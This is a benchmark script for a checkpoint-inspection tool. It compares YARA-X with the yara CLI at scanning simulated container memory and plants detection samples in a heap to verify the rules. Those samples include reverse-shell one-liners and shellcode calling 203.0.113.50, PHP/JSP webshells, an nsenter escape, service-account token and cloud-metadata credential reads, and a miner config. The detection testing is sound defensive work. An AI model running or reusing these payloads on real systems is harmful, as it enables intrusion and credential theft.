// bench/yara: YARA over a checkpoint's memory with the rule set in bench/yara-rules/ (~110 rules of
// the kinds community sets hold: literals, nocase/wide/xor/base64 strings, hex with jumps and
// wildcards, regexes, counts), against Debian's `yara` CLI (libyara) scanning the same bytes — the
// pages files extracted from the archive — in the same run.
//
// The archive is the simulated cluster's CRI-O archive (bench/sim-archive.mjs, as bench/inspect.mjs); the
// heap of pid 1 is then overwritten in place with memory-like content (random, zero, code and text
// pages) and samples that the rules must find, at known offsets (SAMPLES below).
//
// Measured, each a fresh process, rounds interleaved, medians:
//   cli     `yara -s -w -p 1 RULES… DIR` over the extracted pages files (the baseline)
//   engine  YARA-X (@virustotal/yara-x, WASM) in-process over the same files, in bounded windows
//   warm    the same after a warm-up in the process, the scan alone (a long-running amber's case)
//   memory  YARA-X over the archive as amber reads it (amber's tar walk and pagemap reader from dist/):
//           each pages file (one process) in windows, matches across a seam between regions dropped
//   inspect `amber inspect --yara RULES ARCHIVE --json` end to end, when the CLI has the flag
// Ratios are baseline time / our time (higher is better). The correctness part compares the rules
// and (pattern, offset) matches the engines report on the planted samples, on the whole dump
// (YARA-X scanning each file in one piece, so that both engines see the same unit) and on the real
// archives' pages files and rootfs diffs in test/fixtures/real-checkpoints/.
//
// Usage: npm run build && node bench/yara.mjs [GiB of pages, default 1]
//   BENCH_ROUNDS (default 3), BENCH_WINDOW_MIB (default 16), AMBER_MAIN (the amber CLI to run for
//   `inspect`, default dist/cli/main.js), BENCH_KEEP=1 (keep the archive and extracted files).
//   Needs `yara` on PATH (apt-get install yara).
import { execFileSync, spawnSync } from 'node:child_process';
import {
  closeSync,
  createReadStream,
  createWriteStream,
  openSync,
  readdirSync,
  readFileSync,
  readSync,
  rmSync,
  statSync,
  writeFileSync,
  writeSync,
} from 'node:fs';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, relative } from 'node:path';
import { pipeline } from 'node:stream/promises';
import { fileURLToPath } from 'node:url';
import { writeBenchArchive } from './sim-archive.mjs';

const HERE = dirname(fileURLToPath(import.meta.url));
const ROOT = join(HERE, '..');
const RULES_DIR = join(HERE, 'yara-rules');
const RULE_FILES = readdirSync(RULES_DIR)
  .filter((f) => f.endsWith('.yar'))
  .sort()
  .map((f) => join(RULES_DIR, f));
const WASM = join(ROOT, 'node_modules/@virustotal/yara-x/pkg/yara_x_js_bg.wasm');
const MIB = 1 << 20;
const PAGE = 4096;
/** Bytes each window repeats of the one before: more than the longest match of any rule in the set (a few hundred bytes), so none is cut. */
const OVERLAP = 64 * 1024;
/** How much the warm engine scans before it is timed. */
const WARM_UP_BYTES = 128 * MIB;

// ---------------------------------------------------------------------------------------------
// YARA-X, shared by the children and the correctness pass

async function yaraX() {
  const { initSync, Compiler } = await import('@virustotal/yara-x');
  const t0 = process.hrtime.bigint();
  const wasm = initSync({ module: readFileSync(WASM) });
  const initSeconds = Number(process.hrtime.bigint() - t0) / 1e9;
  const compiler = new Compiler();
  for (const f of RULE_FILES) compiler.addSource(readFileSync(f, 'utf8'));
  // read before build(), which consumes the compiler
  const { warnings, errors } = compiler;
  const rules = compiler.build();
  const scanner = rules.scanner();
  // a region that takes this long is reported by amber, not fatal; here it would be a finding
  scanner.setTimeoutMs(60_000);
  return { scanner, wasm, warnings, errors, initSeconds };
}

/** Adds the public rules' matches of one scan of `bytes` (at `base` in `file`) to `found`: `file|rule|$pattern|offset`. */
function collect(result, file, base, found, rulesHit) {
  if (result.errors?.length) throw new Error(`YARA-X scan of ${file} at ${base}: ${JSON.stringify(result.errors)}`);
  for (const m of result.matches) {
    if (m.isPrivate) continue;
    rulesHit.add(`${file}|${m.identifier}`);
    for (const p of m.patterns) for (const x of p.matches) found.add(`${file}|${m.identifier}|${p.identifier}|${base + x.offset}`);
  }
}

/** Scans a file with YARA-X window by window (windows of `window` bytes, each repeating OVERLAP of the last), or whole with window 0. */
function scanFileWindows(scanner, path, name, window, found, rulesHit, buf) {
  const size = statSync(path).size;
  const fd = openSync(path, 'r');
  let scans = 0;
  try {
    if (window === 0 || size <= window) {
      const whole = window === 0 ? Buffer.allocUnsafe(size) : buf;
      const n = readSync(fd, whole, 0, size, 0);
      collect(scanner.scan(whole.subarray(0, n)), name, 0, found, rulesHit);
      return 1;
    }
    for (let pos = 0; ; pos += window - OVERLAP) {
      const n = readSync(fd, buf, 0, window, pos);
      collect(scanner.scan(buf.subarray(0, n)), name, pos, found, rulesHit);
      scans++;
      if (pos + n >= size) break;
    }
  } finally {
    closeSync(fd);
  }
  return scans;
}

/** What one scan() costs whatever its size: the median of 15 scans of one empty page. */
function perScanMs(scanner) {
  const page = new Uint8Array(PAGE);
  const ms = [];
  for (let i = 0; i < 15; i++) {
    const t = process.hrtime.bigint();
    scanner.scan(page);
    ms.push(Number(process.hrtime.bigint() - t) / 1e6);
  }
  return ms.sort((a, b) => a - b)[7];
}

// ---------------------------------------------------------------------------------------------
// Children: one measurement each, in a process of its own so that its time and RSS are its own

if (process.argv[2] === '--child') {
  const [, , , mode, windowArg, ...paths] = process.argv;
  const window = Number(windowArg);
  const t0 = process.hrtime.bigint();
  const yx = await yaraX();
  const tReady = process.hrtime.bigint();
  const rssReady = process.memoryUsage.rss();
  const found = new Set();
  const rulesHit = new Set();
  let scans = 0;
  let bytes = 0;
  let warnings = 0;
  let dropped = 0;
  if (mode === 'warm') {
    // A long-running amber (serve, agent) compiles its rules once and scans capture after capture:
    // V8 has by then tiered the engine's hot WASM functions up from its baseline compiler.
    const buf = Buffer.allocUnsafe(window);
    const fd = openSync(paths[0], 'r');
    for (let i = 0; i < WARM_UP_BYTES / window; i++) yx.scanner.scan(buf.subarray(0, readSync(fd, buf, 0, window, i * window)));
    closeSync(fd);
  }
  const tScan = process.hrtime.bigint();
  if (mode === 'engine' || mode === 'warm') {
    const buf = Buffer.allocUnsafe(Math.max(window, 1));
    for (const p of paths) {
      scans += scanFileWindows(yx.scanner, p, p.split('/').pop(), window, found, rulesHit, buf);
      bytes += statSync(p).size;
    }
  } else if (mode === 'memory') {
    const r = await scanArchiveMemory(yx.scanner, paths[0], window, found, rulesHit);
    scans = r.scans;
    bytes = r.bytes;
    warnings = r.warnings;
    dropped = r.dropped;
  } else throw new Error(`unknown mode ${mode}`);
  const t1 = process.hrtime.bigint();
  // to a file: a large result written to a pipe just before process.exit() can arrive cut short
  writeFileSync(
    process.env.BENCH_CHILD_OUT,
    JSON.stringify({
      seconds: Number(t1 - t0) / 1e9,
      setupSeconds: Number(tReady - t0) / 1e9,
      initSeconds: yx.initSeconds,
      scanSeconds: Number(t1 - tScan) / 1e9,
      scans,
      bytes,
      warnings,
      dropped,
      perScanMs: perScanMs(yx.scanner),
      rssReadyMiB: rssReady / MIB,
      maxRssMiB: process.resourceUsage().maxRSS / 1024,
      wasmMiB: yx.wasm.memory.buffer.byteLength / MIB,
      rules: [...rulesHit],
      matches: [...found],
    }),
  );
  process.exit(0);
}

/**
 * Each process's memory as amber reads it, scanned with YARA-X: the archive streams through
 * amber's tar walk (dist/), each pages file (one process's pages, back to back) is scanned in
 * windows of `window` bytes (OVERLAP repeated), and the pagemaps (decoded by amber) say where one
 * memory region ends and the next begins: a match across such a seam is bytes that are not
 * contiguous in memory, and is dropped. Regions are packed into windows, not scanned one by one,
 * because each scan() has a fixed cost (see perScanMs). Matches are named by file offset so that
 * they compare with the CLI's; amber names them by pid and address.
 */
async function scanArchiveMemory(scanner, archive, window, found, rulesHit) {
  const { collectArchive } = await import('../dist/analysis/archive/collect-archive.js');
  const { archiveChunks } = await import('../dist/analysis/archive/archive-chunks.js');
  const { readFileChunks } = await import('../dist/analysis/archive/read-file-chunks.js');
  const { memoryLayouts, pagesFileName, runInFile, PAGE_SIZE } = await import('../dist/analysis/criu/process-memory.js');
  const buf = Buffer.allocUnsafe(window);
  let scans = 0;
  let bytes = 0;
  let dropped = 0;
  const c = await collectArchive(
    archiveChunks(() => readFileChunks(archive), new AbortController().signal),
    64 * MIB,
    async (image, body, images) => {
      const seams = []; // file offsets where the next page is not the next address
      for (const p of memoryLayouts(images)) {
        if (!p.pagemap || pagesFileName(p.pagemap.pagesId) !== image) continue;
        let prev;
        for (const r of [...p.pagemap.runs].filter(runInFile).sort((x, y) => x.offset - y.offset)) {
          if (prev && prev.vaddr + prev.nrPages * PAGE_SIZE !== r.vaddr) seams.push(r.offset);
          prev = r;
        }
      }
      seams.sort((x, y) => x - y);
      let bufStart = 0; // file offset of buf[0]
      let filled = 0;
      const scan = () => {
        const result = scanner.scan(buf.subarray(0, filled));
        scans++;
        const end = bufStart + filled;
        const inWindow = seams.filter((o) => o > bufStart && o < end);
        if (inWindow.length > 0) {
          for (const m of result.matches)
            for (const p of m.patterns)
              p.matches = p.matches.filter((x) => {
                const from = bufStart + x.offset;
                const across = inWindow.some((o) => from < o && from + x.length > o);
                if (across) dropped++;
                return !across;
              });
          result.matches = result.matches.filter((m) => m.patterns.length === 0 || m.patterns.some((p) => p.matches.length > 0));
        }
        collect(result, image, bufStart, found, rulesHit);
      };
      for await (const chunk of body) {
        bytes += chunk.length;
        for (let at = 0; at < chunk.length;) {
          const n = Math.min(chunk.length - at, window - filled);
          chunk.copy(buf, filled, at, at + n);
          filled += n;
          at += n;
          if (filled === window) {
            scan();
            buf.copy(buf, 0, window - OVERLAP, window);
            bufStart += window - OVERLAP;
            filled = OVERLAP;
          }
        }
      }
      if (filled > (bufStart === 0 ? 0 : OVERLAP)) scan();
    },
  );
  return { scans, bytes, warnings: c.warnings.length, dropped };
}

// ---------------------------------------------------------------------------------------------
// The archive: built by the simulator, then the heap of pid 1 made memory-like, then the samples

/** Samples planted in pid 1's heap, and the rules each must set off (in both engines, at its offset). */
const base58 = '123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz';
const WALLET = '4A' + Array.from({ length: 93 }, (_, i) => base58[(i * 17 + 5) % base58.length]).join('');
const xor = (s, k) => Buffer.from([...Buffer.from(s)].map((b) => b ^ k));
const utf16 = (s) => Buffer.from(s, 'utf16le');
const hex = (s) => Buffer.from(s.replace(/\s+/g, ''), 'hex');
const SAMPLES = [
  {
    bytes: Buffer.from(
      `{"autosave":true,"donate-level":0,"cpu":{"max-threads-hint":75},"pools":[{"url":"stratum+tcp://pool.supportxmr.com:3333","user":"${WALLET}","keepalive":true}]}`,
    ),
    rules: ['miner_xmrig_config_json', 'miner_stratum_url', 'miner_pool_domains', 'miner_monero_wallet_in_config'],
  },
  { bytes: Buffer.from(`<?php @eval($_POST['amb']); ?>`), rules: ['webshell_php_eval_request', 'webshell_chopper_oneliner'] },
  { bytes: Buffer.from(`<?php $f = ${'chr(101) . '.repeat(24)}''; ?>`), rules: ['webshell_php_chr_obfuscation'] },
  { bytes: Buffer.from(`<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>`), rules: ['webshell_jsp_runtime_exec'] },
  { bytes: Buffer.from('bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\n'), rules: ['revshell_bash_dev_tcp', 'revshell_dev_tcp_generic'] },
  {
    bytes: Buffer.from(
      `python3 -c 'import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.50",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")'`,
    ),
    rules: ['revshell_python_socket_pty'],
  },
  {
    bytes: hex('6A2958996A025F6A015E0F05 4897 48B90200115CCB007132514889E66A105A6A2A580F05 6A035E48FFCE6A21580F0575F6 6A3B589948BB2F62696E2F736800'),
    rules: ['revshell_shellcode_x64_connect', 'revshell_shellcode_x64_execve_binsh'],
  },
  { bytes: utf16('Your files have been encrypted! To decrypt your files send 0.5 Bitcoin.'), rules: ['ransom_note'] },
  { bytes: Buffer.concat([xor('http://198.51.100.7/x.sh', 0x5a), Buffer.alloc(16), xor('https://203.0.113.50/p', 0x5a)]), rules: ['packer_xor_url'] },
  { bytes: Buffer.from(`echo ${Buffer.from("/bin/bash -c 'id; uname -a'").toString('base64')} | base64 -d | sh`), rules: ['packer_base64_shell_command'] },
  { bytes: Buffer.from('cat /var/run/secrets/kubernetes.io/serviceaccount/token\n'), rules: ['cred_k8s_serviceaccount_token_read'] },
  { bytes: Buffer.from('nsenter --target 1 --mount --uts --ipc --net --pid -- bash\n'), rules: ['escape_nsenter_host'] },
  {
    bytes: Buffer.from('curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role\n'),
    rules: ['recon_cloud_metadata'],
  },
  { bytes: hex('0001000100020050 0002000100021F90 0003000200040000EA60'), rules: ['tool_c2_beacon_config'] },
  { bytes: Buffer.concat([Buffer.alloc(24, 0x90), hex('E8 10000000')]), rules: ['shellcode_nop_sled_jump'] },
  {
    bytes: Buffer.concat([hex('7F454C46 02010100 00000000 00000000 0200 3E00 01000000'), Buffer.alloc(40), Buffer.from('/tmp/.x/kworkerd\0')]),
    rules: ['packer_elf_dropped_in_tmp', 'generic_hidden_exec_path'],
  },
  { bytes: Buffer.from([1, 2, 3, 4, 5, 6].map((n) => `http://10.0.0.${n}:8080/`).join(' ')), rules: ['generic_many_ip_urls'] },
  {
    bytes: Buffer.from('[default]\naws_access_key_id = AKIAAMBERBENCH000001\naws_secret_access_key = amberbenchnotarealsecretkey0000000000000\n'),
    rules: ['cred_aws_keys'],
  },
  // near misses: each is one condition short of a rule, which must not be reported for them
  { bytes: Buffer.from('stratum+tcp://\0'), rules: [] },
  { bytes: Buffer.from('<?php echo "eval($_POST is not called here"; ?>'), rules: [] },
];

function tarEntries(path) {
  // ustar headers as tar-stream writes them (and pax 'x' records for long names)
  const fd = openSync(path, 'r');
  const out = [];
  const h = Buffer.alloc(512);
  try {
    for (let off = 0, pax = null; ;) {
      if (readSync(fd, h, 0, 512, off) < 512 || h.every((b) => b === 0)) break;
      const field = (a, b) => h.toString('latin1', a, b).replace(/\0.*$/s, '');
      const size = parseInt(field(124, 136).trim() || '0', 8);
      const type = String.fromCharCode(h[156] || 48);
      const name = pax ?? (field(345, 500) ? `${field(345, 500)}/` : '') + field(0, 100);
      pax = null;
      if (type === 'x') {
        const rec = Buffer.alloc(size);
        readSync(fd, rec, 0, size, off + 512);
        pax = /\d+ path=([^\n]*)\n/.exec(rec.toString('utf8'))?.[1] ?? null;
      } else out.push({ name, type, size, data: off + 512 });
      off += 512 + Math.ceil(size / 512) * 512;
    }
  } finally {
    closeSync(fd);
  }
  return out;
}

/** A deterministic stretch of `len` bytes of `file`, from a place chosen by `i`, page aligned. */
function slice(fd, fileSize, i, len, buf) {
  const pages = Math.floor((fileSize - len) / PAGE);
  const at = (((i * 2654435761) >>> 0) % pages) * PAGE + PAGE; // never the file's first page (an ELF header there would make a region start look like a file)
  return readSync(fd, buf, 0, len, Math.min(at, fileSize - len));
}

async function buildArchive(path, gib) {
  const res = await writeBenchArchive(path, gib);
  const pid1 = res.processes.find((p) => p.pid === 1);
  const pages = tarEntries(path).find((e) => e.name === `checkpoint/${pid1.pagesFile}`);
  // The heap runs of pid 1 (all but the first, which holds the simulator's own strings), in file order.
  const heap = pid1.pagemap.filter((r) => r.nrPages > 32).slice(1);
  if (heap.length < 2) throw new Error('bench/yara: too small a dump; give at least 0.03 GiB');
  // Memory is not random: real heaps hold zero pages, code and rodata of the binaries and
  // libraries, and text (scripts, JSON, source). Those are what give a scanner's atoms work to do.
  const node = openSync(process.execPath, 'r');
  const nodeSize = statSync(process.execPath).size;
  const textFiles = ['node_modules/typescript/lib/typescript.js', 'node_modules/typescript/lib/lib.dom.d.ts'].map((f) => join(ROOT, f));
  const texts = textFiles.map((f) => ({ fd: openSync(f, 'r'), size: statSync(f).size }));
  const fd = openSync(path, 'r+');
  const kinds = { random: 0, zero: 0, code: 0, text: 0 };
  try {
    heap.forEach((r, i) => {
      const len = r.nrPages * PAGE;
      const buf = Buffer.alloc(len);
      const kind = ['random', 'random', 'random', 'zero', 'code', 'code', 'text', 'text'][i % 8];
      kinds[kind] += len;
      if (kind === 'random') return;
      if (kind === 'code') slice(node, nodeSize, i, len, buf);
      if (kind === 'text') {
        const t = texts[i % texts.length];
        slice(t.fd, t.size, i, Math.min(len, t.size - 2 * PAGE), buf);
      }
      writeSync(fd, buf, 0, len, pages.data + r.offset);
    });
    // Each sample in a run of its own where there are enough, a page into it (never across a run's end).
    const planted = SAMPLES.map((s, j) => {
      const r = heap[Math.floor(((j + 0.5) * heap.length) / SAMPLES.length)];
      const inRun = PAGE + (j % 64) * 1000; // apart, should two samples share a run (a small dump)
      const offset = r.offset + inRun;
      writeSync(fd, s.bytes, 0, s.bytes.length, pages.data + offset);
      return { ...s, file: pid1.pagesFile, offset, vaddr: r.vaddr + inRun };
    });
    return { res, planted, kinds };
  } finally {
    closeSync(fd);
    closeSync(node);
    for (const t of texts) closeSync(t.fd);
  }
}

async function extractPages(archive, dir) {
  const files = [];
  for (const e of tarEntries(archive).filter((x) => /^checkpoint\/pages-\d+\.img$/.test(x.name))) {
    const out = join(dir, e.name.split('/').pop());
    if (e.size > 0) await pipeline(createReadStream(archive, { start: e.data, end: e.data + e.size - 1 }), createWriteStream(out));
    else closeSync(openSync(out, 'w'));
    files.push(out);
  }
  return files;
}

// ---------------------------------------------------------------------------------------------
// The contenders

/** `yara -s`: a line `RULE FILE` per rule that matched, then `0xOFFSET:$id: data` per string match. */
function parseYaraCli(stdout, dir) {
  const found = new Set();
  const rules = new Set();
  let current;
  for (const line of stdout.split('\n')) {
    const s = /^0x([0-9a-f]+):(\$[^:]*):/.exec(line);
    if (s && current) {
      found.add(`${current.file}|${current.rule}|${s[2]}|${parseInt(s[1], 16)}`);
      continue;
    }
    const r = /^(\S+) (\/.*)$/.exec(line);
    if (r) {
      current = { rule: r[1], file: relative(dir, r[2]) };
      rules.add(`${current.file}|${current.rule}`);
    }
  }
  return { found, rules };
}

/**
 * Runs a command under GNU time: wall seconds, and the CPU seconds (user + system) and peak RSS of
 * the process. On a machine shared with other work the CPU time is the steadier figure: wall time
 * also counts the waits for a core.
 */
function timed(cmd, args) {
  const r = spawnSync('/usr/bin/time', ['-f', 'AMBER_TIME %e %U %S %M', cmd, ...args], { encoding: 'utf8', maxBuffer: 1 << 30 });
  const m = /AMBER_TIME ([\d.]+) ([\d.]+) ([\d.]+) (\d+)\s*$/.exec(r.stderr);
  if (!m) throw new Error(`${cmd} did not run under /usr/bin/time: ${r.stderr.slice(-2000)}`);
  const stderr = r.stderr.slice(0, m.index);
  if (r.status !== 0) throw new Error(`${cmd} ${args.slice(0, 3).join(' ')} failed (${r.status}): ${stderr.slice(-2000)}`);
  return { stdout: r.stdout, stderr, seconds: Number(m[1]), cpuSeconds: Number(m[2]) + Number(m[3]), maxRssMiB: Number(m[4]) / 1024 };
}

function yaraCli(target, { recursive = false } = {}) {
  // -p 1: one scanning thread, as amber scans an archive; -w: warnings are not matches
  return timed('yara', ['-s', '-w', '-p', '1', ...(recursive ? ['-r'] : []), ...RULE_FILES, target]);
}

let childRuns = 0;
function child(mode, window, paths) {
  const out = join(tmpdir(), `amber-bench-yara-child-${process.pid}-${childRuns++}.json`);
  process.env.BENCH_CHILD_OUT = out;
  try {
    const r = timed(process.execPath, [fileURLToPath(import.meta.url), '--child', mode, String(window), ...paths]);
    return { ...JSON.parse(readFileSync(out, 'utf8')), seconds: r.seconds, cpuSeconds: r.cpuSeconds };
  } finally {
    rmSync(out, { force: true });
  }
}

function amberMain() {
  return process.env.AMBER_MAIN ?? join(ROOT, 'dist/cli/main.js');
}

function amberHasYara() {
  const r = spawnSync(process.execPath, [amberMain(), 'inspect', '--help'], { encoding: 'utf8' });
  return /--yara\b/.test(r.stdout + r.stderr);
}

/** `amber inspect --yara --json`: {"yara":{"matches":[{rule, where: {in: "memory", pid, address} | {in: "file", path}}]}}, one per rule and region. */
function yaraInReport(json) {
  const matches = json?.yara?.matches;
  if (!Array.isArray(matches)) throw new Error('amber inspect --yara --json printed no yara.matches');
  return matches.map((m) => ({ rule: m.rule, pid: m.where?.pid, address: m.where?.address === undefined ? undefined : Number(m.where.address) }));
}

function amberInspect(archive) {
  const r = timed(process.execPath, [amberMain(), 'inspect', '--yara', RULES_DIR, archive, '--json']);
  return { ...r, stdout: undefined, hits: yaraInReport(JSON.parse(r.stdout)) };
}

// ---------------------------------------------------------------------------------------------
// Comparison

const median = (xs) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)];
const ruleOf = (key) => key.split('|')[1];

/** What one side has and the other lacks, summarised per rule. */
function diff(a, b) {
  const only = (x, y) => [...x].filter((k) => !y.has(k));
  const perRule = (keys) => {
    const m = new Map();
    for (const k of keys) m.set(ruleOf(k), (m.get(ruleOf(k)) ?? 0) + 1);
    return [...m].map(([r, n]) => `${r} (${n})`).join(', ') || 'none';
  };
  const ab = only(a, b);
  const ba = only(b, a);
  return { equal: ab.length === 0 && ba.length === 0, onlyA: ab, onlyB: ba, text: `only CLI: ${perRule(ab)}; only YARA-X: ${perRule(ba)}` };
}

function plantedFound(planted, found) {
  const missing = [];
  for (const s of planted) {
    for (const rule of s.rules) {
      const hit = [...found].some((k) => {
        const [file, r, , off] = k.split('|');
        return file === s.file && r === rule && Number(off) >= s.offset && Number(off) < s.offset + s.bytes.length;
      });
      if (!hit) missing.push(`${rule}@${s.offset}`);
    }
  }
  return missing;
}

/** The real archives: their pages files and the files of their rootfs diffs, extracted by GNU tar. */
async function realArchives(work) {
  const dir = join(ROOT, 'test/fixtures/real-checkpoints');
  const out = [];
  for (const name of readdirSync(dir).filter((f) => /\.tar(\.gz)?$/.test(f))) {
    const into = join(work, name.replace(/[^A-Za-z0-9.-]/g, '_'));
    await mkdir(join(into, 'rootfs'), { recursive: true });
    // ./NAME: GNU tar reads a name with ':' as a remote archive otherwise
    execFileSync('tar', ['-xf', `./${name}`, '-C', into, '--wildcards', 'checkpoint/pages-*.img', 'rootfs-diff.tar'], { cwd: dir, stdio: 'ignore' });
    try {
      execFileSync('tar', ['-xf', join(into, 'rootfs-diff.tar'), '-C', join(into, 'rootfs')], { stdio: 'ignore' });
    } catch {
      // an empty or absent diff: nothing to scan there
    }
    await rm(join(into, 'rootfs-diff.tar'), { force: true });
    out.push({ name, dir: into });
  }
  return out;
}

function filesUnder(dir) {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => e.isFile())
    .map((e) => join(e.parentPath ?? e.path, e.name));
}

// ---------------------------------------------------------------------------------------------

const gib = Number(process.argv[2] ?? '1');
const rounds = Number(process.env.BENCH_ROUNDS ?? '3');
const window = Number(process.env.BENCH_WINDOW_MIB ?? '16') * MIB;
const version = spawnSync('yara', ['--version'], { encoding: 'utf8' });
if (version.status !== 0) throw new Error('bench/yara needs the yara CLI on PATH (apt-get install yara)');

const work = await mkdtemp(join(tmpdir(), 'amber-bench-yara-'));
try {
  const archive = join(work, 'checkpoint-web_shop-app.tar');
  const pagesDir = join(work, 'pages');
  await mkdir(pagesDir);
  const t0 = Date.now();
  const { planted, kinds } = await buildArchive(archive, gib);
  const pagesFiles = await extractPages(archive, pagesDir);
  execFileSync('sync');
  const pagesBytes = pagesFiles.reduce((n, f) => n + statSync(f).size, 0);
  const rules = RULE_FILES.map((f) => readFileSync(f, 'utf8').match(/^\s*(private\s+)?rule\s/gm)?.length ?? 0).reduce((a, b) => a + b, 0);
  const mixMiB = Object.entries(kinds)
    .map(([k, v]) => `${k} ${(v / MIB).toFixed(0)}`)
    .join(', ');
  console.error(
    `archive ${(statSync(archive).size / 2 ** 30).toFixed(3)} GiB, pages ${(pagesBytes / 2 ** 30).toFixed(3)} GiB in ${pagesFiles.length} files (pid 1's heap, MiB: ${mixMiB}); ` +
      `${planted.length} samples planted; ${rules} rules in ${RULE_FILES.length} files; built in ${((Date.now() - t0) / 1000).toFixed(1)} s`,
  );

  const withInspect = amberHasYara();
  // warm the page cache and V8's code cache alike for every contender
  yaraCli(pagesDir);
  child('engine', window, pagesFiles);
  const empty = join(work, 'empty');
  writeFileSync(empty, '');
  const runs = { cli: [], cliStart: [], engine: [], warm: [], memory: [], inspect: [] };
  let last = {};
  for (let i = 0; i < rounds; i++) {
    runs.cli.push((last.cli = yaraCli(pagesDir)));
    // the CLI's own start: process, rules compiled from source, nothing scanned
    runs.cliStart.push((last.cliStart = yaraCli(empty)));
    runs.engine.push((last.engine = child('engine', window, pagesFiles)));
    runs.warm.push((last.warm = child('warm', window, pagesFiles)));
    runs.memory.push((last.memory = child('memory', window, [archive])));
    if (withInspect) runs.inspect.push((last.inspect = amberInspect(archive)));
    console.error(
      `round ${i + 1}: ${Object.entries(last)
        .map(([k, v]) => `${k} ${v.seconds.toFixed(2)} s`)
        .join(', ')}`,
    );
  }
  // Correctness on the dump: YARA-X scanning each file whole sees what the CLI sees (a rule's
  // strings anywhere in the file); in windows and regions, a rule whose strings lie apart is not
  // satisfied, and a string match of a rule that is not satisfied in its window is not listed.
  let whole;
  try {
    whole = child('engine', 0, pagesFiles);
  } catch (err) {
    // a dump larger than the WASM memory can hold in one piece; the windows' comparison still stands
    console.error(`YARA-X could not scan the files whole: ${err.message.slice(0, 500)}`);
    whole = { matches: [], rules: [] };
  }
  const cli = parseYaraCli(last.cli.stdout, pagesDir);
  const sets = {
    'YARA-X, each file whole': { found: new Set(whole.matches), rules: new Set(whole.rules) },
    [`YARA-X, ${window / MIB} MiB windows`]: { found: new Set(last.engine.matches), rules: new Set(last.engine.rules) },
    'YARA-X, memory regions (amber readers)': { found: new Set(last.memory.matches), rules: new Set(last.memory.rules) },
  };

  const sec = (k) => median(runs[k].map((r) => r.seconds));
  const cpu = (k) => median(runs[k].map((r) => r.cpuSeconds));
  const mbs = (x) => pagesBytes / 1e6 / x;
  const peak = (k) => `${Math.max(...runs[k].map((x) => x.maxRssMiB)).toFixed(0)} MiB`;
  console.log(
    `pages ${(pagesBytes / 2 ** 30).toFixed(3)} GiB; ${rules} rules; yara ${version.stdout.trim()} (libyara), @virustotal/yara-x ${JSON.parse(readFileSync(join(ROOT, 'node_modules/@virustotal/yara-x/package.json'), 'utf8')).version}; ` +
      `median of ${rounds} rounds; MB = 10^6 bytes of pages; ratios are the CLI's time over the contender's (higher is better)`,
  );
  console.log('| contender | wall | throughput | ratio (wall) | CPU (user + sys) | ratio (CPU) | setup: init + compile | scans | peak RSS | WASM memory |');
  console.log('| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |');
  console.log(
    `| \`yara -s -w -p 1\` on the extracted pages files (baseline; its start alone: ${sec('cliStart').toFixed(2)} s) | ${sec('cli').toFixed(2)} s | ${mbs(sec('cli')).toFixed(0)} MB/s | 1 | ${cpu('cli').toFixed(2)} s | 1 | — | — | ${peak('cli')} (the file is mapped) | — |`,
  );
  const row = (label, k, wall, cpuTime, baseWall, baseCpu) => {
    const r = runs[k];
    const setup =
      r[0]?.setupSeconds === undefined
        ? '—'
        : `${median(r.map((x) => x.initSeconds)).toFixed(2)} + ${median(r.map((x) => x.setupSeconds - x.initSeconds)).toFixed(2)} s`;
    const wasm = r[0]?.wasmMiB === undefined ? '—' : `${Math.max(...r.map((x) => x.wasmMiB)).toFixed(0)} MiB`;
    console.log(
      `| ${label} | ${wall.toFixed(2)} s | ${mbs(wall).toFixed(0)} MB/s | **${(baseWall / wall).toFixed(2)}** | ${cpuTime === undefined ? '—' : `${cpuTime.toFixed(2)} s`} | ${cpuTime === undefined ? '—' : (baseCpu / cpuTime).toFixed(2)} | ${setup} | ${r[0]?.scans ?? '—'} | ${peak(k)} | ${wasm} |`,
    );
  };
  row(`(a) YARA-X in-process over the same files, ${window / MIB} MiB windows, spawn to exit`, 'engine', sec('engine'), cpu('engine'), sec('cli'), cpu('cli'));
  // warm: the scan alone, against the CLI less its start; no CPU split for a part of a process
  const warmScan = median(runs.warm.map((r) => r.scanSeconds));
  row(
    `(a′) the same, warm (after ${WARM_UP_BYTES / MIB} MiB scanned in the process), the scan alone, against the CLI less its start`,
    'warm',
    warmScan,
    undefined,
    sec('cli') - sec('cliStart'),
  );
  row(
    `(b′) YARA-X over the archive as amber reads it (tar, pagemaps), ${window / MIB} MiB windows, spawn to exit`,
    'memory',
    sec('memory'),
    cpu('memory'),
    sec('cli'),
    cpu('cli'),
  );
  if (withInspect) row('(b) `amber inspect --yara RULES ARCHIVE --json`, spawn to exit', 'inspect', sec('inspect'), cpu('inspect'), sec('cli'), cpu('cli'));
  else console.log('| (b) `amber inspect --yara` | not measured: this build of amber has no --yara | | | | | | | | |');
  console.log(
    `scan alone, cold (the engine's WASM tiered up during the scan): (a) ${mbs(median(runs.engine.map((r) => r.scanSeconds))).toFixed(0)} MB/s, (b′) ${mbs(median(runs.memory.map((r) => r.scanSeconds))).toFixed(0)} MB/s; ` +
      `one scan() of a 4 KiB page costs ${median(runs.engine.map((r) => r.perScanMs)).toFixed(1)} ms, whatever its size`,
  );
  console.log('\ncorrectness on the dump (rules, and matches as file|rule|$pattern|offset):');
  let failed = false;
  const cliMissing = plantedFound(planted, cli.found);
  failed ||= cliMissing.length > 0;
  console.log(`- CLI: ${cli.rules.size} rule hits, ${cli.found.size} matches; planted rules missing: ${cliMissing.join(', ') || 'none'}`);
  for (const [label, s] of Object.entries(sets)) {
    const missing = plantedFound(planted, s.found);
    const d = diff(cli.found, s.found);
    const dr = diff(cli.rules, s.rules);
    failed ||= missing.length > 0;
    console.log(
      `- ${label}: ${s.rules.size} rule hits, ${s.found.size} matches; planted rules missing: ${missing.join(', ') || 'none'}; ` +
        `vs CLI: rules ${dr.equal ? 'same' : dr.text}; matches ${d.equal ? 'same' : d.text}`,
    );
  }
  console.log(`- (b′) dropped ${last.memory.dropped} matches across a seam between memory regions`);

